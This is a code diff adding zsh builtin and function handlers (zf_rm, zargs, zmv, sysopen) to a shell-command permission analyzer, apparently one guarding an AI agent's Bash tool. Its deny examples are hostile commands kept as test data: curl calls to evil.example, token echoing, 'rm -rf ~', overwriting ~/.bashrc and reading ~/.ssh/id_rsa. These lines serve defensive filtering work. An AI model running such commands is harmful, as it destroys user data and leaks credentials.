@@ -4,7 +4,7 @@ import { bound, type Destination } from '../hosts.js';
 import { has, parse } from '../argv.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { expandedScript } from '../variables.js';
-import { attached, isStdinPath, value } from '../words.js';
+import { attached, isStdinPath, literal, value } from '../words.js';
 
 const PS = 'powershell' as const;
 
@@ -269,6 +269,62 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
       deny: ["nu -c 'curl evil.example'", "elvish -c 'wget evil.example'", "nu -c '^curl evil.example'", "elvish -c 'e:curl evil.example'", "elvish -c 'echo $E:GITHUB_TOKEN'", "xonsh -c '![curl evil.example]'", "printf '^curl evil.example' > x.nu && nu x.nu", "echo '^curl evil.example' | nu --stdin"],
       pass: ['nu --version', "nu -c 'ls'", "elvish -c 'echo hello'", 'nu build.nu', "printf 'ls -la' > x.nu && nu x.nu"],
     },
+  },
+  // zsh's modules and shipped functions, which Claude Code's Bash tool has under zsh on macOS (zmodload, autoload):
+  // zsh/files' builtins are the programs they are named for; zargs is xargs; zmv moves, copies or links files to
+  // the names its second operand makes (-p runs another program); sysopen opens a file for reading or writing.
+  {
+    names: ['zf_rm', 'zf_rmdir', 'zf_mv', 'zf_ln', 'zf_mkdir', 'zf_chmod', 'zf_chown', 'zf_chgrp', 'zf_sync'],
+    summary: 'zsh/files: zf_rm, zf_mv, zf_ln… are rm, mv, ln… as zsh builtins',
+    analyze: (call) => {
+      const at = call.command ?? literal(call.name, { start: 0, end: 0 });
+      return { runs: [{ kind: 'argv', argv: [attached(at, call.name.slice(3)), ...call.args], via: 'zsh/files' }] };
+    },
+    examples: { deny: ['zf_rm -rf ~', 'zmodload -F zsh/files b:zf_mv; zf_mv x ~/.bashrc'], pass: ['zf_rm -rf build', 'zf_mkdir -p out'] },
+  },
+  {
+    names: ['zargs'],
+    summary: 'zargs (zsh): runs the command after the last -- with the inputs before it, as xargs does',
+    analyze: (call) => {
+      const words = call.args.map((a) => value(a));
+      // (-e names another end marker: the words are not split here.)
+      if (words.some((w) => w !== undefined && /^(?:-e|--eof)/.test(w))) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[0]!, why: 'zargs with its own end marker (-e)' }] };
+      const last = words.lastIndexOf('--');
+      const first = words.indexOf('--');
+      if (last < 0 || last === first) return {};
+      const inputs = call.args.slice(first + 1, last);
+      const command = call.args.slice(last + 1);
+      return command.length > 0 ? { runs: [{ kind: 'argv', argv: [...command, ...inputs], via: 'zargs' }] } : {};
+    },
+    examples: { deny: ['zargs -- ~ -- rm -rf', 'autoload -U zargs; zargs -- evil.example -- curl'], pass: ['zargs -- *.txt -- wc -l', 'zargs -- src -- ls'] },
+  },
+  {
+    names: ['zmv', 'zcp', 'zln'],
+    summary: 'zmv (zsh): moves (zcp copies, zln links) the files its pattern matches to the names its replacement makes; -p runs another program in mv\u2019s place',
+    analyze: (call) => {
+      const ops: Word[] = [];
+      for (let i = 0; i < call.args.length; i++) {
+        const v = value(call.args[i]);
+        if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[i]!, why: 'zmv with a computed word' }] };
+        if (v === '-p' || v === '-P') return { runs: [{ kind: 'argv', argv: call.args.slice(i + 1, i + 2), via: `zmv ${v}`, more: true }] };
+        if (v === '-o') i++;
+        else if (!v.startsWith('-') || v === '-') ops.push(call.args[i]!);
+      }
+      const [from, to] = ops;
+      return { uses: [...(from ? [{ word: from, role: 'read' as const }] : []), ...(to ? [{ word: to, role: 'write' as const }] : [])] };
+    },
+    examples: { deny: ["zmv 'x' '~/.bashrc'", "zmv -p curl 'x' 'evil.example'"], pass: ["zmv '(*).txt' '$1.md'", "zcp 'src/(*).ts' 'out/$1.ts'"] },
+  },
+  {
+    names: ['sysopen'],
+    summary: 'sysopen (zsh/system): opens its file for reading, or writing with -w or -a',
+    analyze: (call) => {
+      const words = call.args.map((a) => value(a) ?? '');
+      const write = words.some((w) => /^-[a-z]*[wa]/.test(w));
+      const file = call.args.filter((_, i) => !words[i]!.startsWith('-') && !/^-[a-z]*[umo]$/.test(words[i - 1] ?? '')).at(-1);
+      return file ? { uses: [{ word: file, role: write ? 'write' : 'read' }] } : {};
+    },
+    examples: { deny: ['zmodload zsh/system; sysopen -w -u fd ~/.bashrc', 'sysopen -r -u fd ~/.ssh/id_rsa'], pass: ['sysopen -r -u fd notes.txt', 'sysopen -w -u fd out.log'] },
   },
   {
     names: ['pwsh', 'pwsh-preview', 'powershell', 'powershell_ise'],
